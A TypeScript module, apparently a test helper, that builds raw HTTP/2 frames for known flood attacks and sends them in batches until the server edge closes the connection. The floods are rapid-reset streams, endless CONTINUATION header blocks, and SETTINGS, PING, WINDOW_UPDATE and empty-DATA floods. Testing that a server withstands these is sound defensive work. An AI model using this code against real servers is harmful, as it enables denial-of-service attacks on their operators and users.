import { constants } from 'node:http2'
import type { RawConnection } from './raw-connection.ts'
import { END_HEADERS, END_STREAM, FRAME, frame, requestBlock } from './raw-http2.ts'

export const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

/** What visitors flood with: frames for the `index`th time; a flood is thousands of them. */
export const floods: Record<string, (index: number, url: string) => Buffer> = {
  'requests that it resets at once': (index, url) => {
    const stream = 1 + 2 * index
    const request = frame(FRAME.headers, END_STREAM | END_HEADERS, stream, requestBlock(url))
    return Buffer.concat([request, frame(FRAME.rstStream, 0, stream, u32(constants.NGHTTP2_CANCEL))])
  },
  'header blocks that never end': (index, url) =>
    index === 0
      ? frame(FRAME.headers, END_STREAM, 1, requestBlock(url))
      : frame(
          FRAME.continuation,
          0,
          1,
          Buffer.concat([Buffer.of(0, 1), Buffer.from('x'), Buffer.of(1), Buffer.from('y')]),
        ),
  SETTINGS: () => frame(FRAME.settings, 0, 0, Buffer.concat([Buffer.of(0, 4), u32(65_535)])),
  PING: (index) => frame(FRAME.ping, 0, 0, Buffer.concat([u32(0), u32(index)])),
  WINDOW_UPDATE: () => frame(FRAME.windowUpdate, 0, 0, u32(1)),
  'empty DATA': (index, url) =>
    index === 0
      ? frame(FRAME.headers, END_HEADERS, 1, requestBlock(url, 'POST'))
      : frame(FRAME.data, 0, 1, Buffer.alloc(0)),
}

/** Sends until the edge ends the connection. */
export async function flood(connection: RawConnection, piece: (index: number) => Buffer): Promise<void> {
  let isOver = false
  void connection.ended.then(() => {
    isOver = true
  })
  for (let index = 0; !isOver; ) {
    const pieces = Array.from({ length: 50 }, () => piece(index++))
    await new Promise((resolve) => connection.socket.write(Buffer.concat(pieces), resolve))
  }
}
